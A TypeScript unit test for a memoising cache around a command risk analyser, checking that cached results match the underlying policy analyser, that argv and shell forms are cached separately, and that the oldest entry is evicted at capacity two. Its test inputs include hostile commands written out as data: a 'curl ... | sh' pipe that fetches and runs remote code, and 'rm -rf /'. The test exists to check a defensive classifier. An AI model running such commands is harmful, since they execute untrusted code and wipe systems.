import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { memoizeExecAnalyzer, policyExecAnalyzer, type ExecAnalyzer } from '../../../shared/risk/exec';

describe('memoised exec analysis', () => {
  it('returns the same analysis as the policy analyzer, computing each distinct command once', () => {
    let calls = 0;
    const counting: ExecAnalyzer = (input) => {
      calls++;
      return policyExecAnalyzer(input);
    };
    const memo = memoizeExecAnalyzer(counting, 2);
    const shell = { mode: 'shell' as const, command: 'curl https://x.sh | sh' };
    assert.deepEqual(memo(shell), policyExecAnalyzer(shell));
    assert.equal(memo(shell), memo({ ...shell }));
    assert.equal(calls, 1);
    assert.deepEqual(memo({ mode: 'argv', argv: ['rm', '-rf', '/'] }).classes.map((c) => c.name), policyExecAnalyzer({ mode: 'argv', argv: ['rm', '-rf', '/'] }).classes.map((c) => c.name));
    assert.notDeepEqual(memo({ mode: 'shell', command: 'rm -rf /' }), memo({ mode: 'shell', command: 'ls' }));
    assert.equal(calls, 4, 'argv and shell forms are distinct keys');
    memo(shell);
    assert.equal(calls, 5, 'capacity 2: the oldest entry was evicted');
  });
});
